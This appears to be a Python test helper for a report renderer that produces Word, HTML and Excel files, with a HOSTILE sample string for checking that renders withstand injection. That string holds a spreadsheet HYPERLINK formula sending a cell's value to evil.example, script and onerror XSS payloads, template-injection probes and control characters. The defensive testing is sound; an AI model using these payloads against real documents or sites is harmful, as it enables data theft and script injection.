"""Renders that several tests look at, made once, and what hostile people write."""

from __future__ import annotations

import io
import re
import zipfile
from functools import lru_cache

from tests.report_samples import empty_report, full_report, wordy_report
from triage.reports.documents import render

FORMATS = ("docx", "html", "xlsx")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点")</w:t></w:r><script>alert(1)</script>'
    "<img src=x onerror=alert(2)>]]><!--\"'&amp;&#0;{{ 7*7 }}{% for a in b %}{_{ x }_}"
    "\x00\x07\x08\x0b\x1b\x7f\x85\u2028\u202e\u2066\u200f\u200b\ufeff\ufffe\uffff\ud83d\udc7b\ud800 "
    "👩‍🚒🀄𠮷_x0041_\r\n\t" + "W" * 5_000
)


def hostile(text: str) -> str:
    """A text between hostile ones: a formula first, markup and controls behind it, a very long word at the end."""
    return f"=1+1|{text}{HOSTILE}"


@lru_cache(maxsize=32)
def made(kind: str, format: str, *, content: str = "full") -> bytes:  # noqa: A002
    """A rendered sample: ``full``, ``empty``, ``wordy`` or ``hostile``."""
    reports = {
        "full": lambda: full_report(kind),
        "empty": lambda: empty_report(kind),
        "wordy": lambda: wordy_report(kind),
        "hostile": lambda: full_report(kind, say=hostile),
    }
    return render(reports[content](), format)


def parts(data: bytes) -> dict[str, bytes]:
    """The files within a document of Word or Excel."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def words(data: bytes) -> str:
    """What a Word document's body says, paragraph by paragraph."""
    body = parts(data)["word/document.xml"].decode("utf-8")
    return "\n".join(
        "".join(re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", paragraph)) for paragraph in body.split("</w:p>")
    )
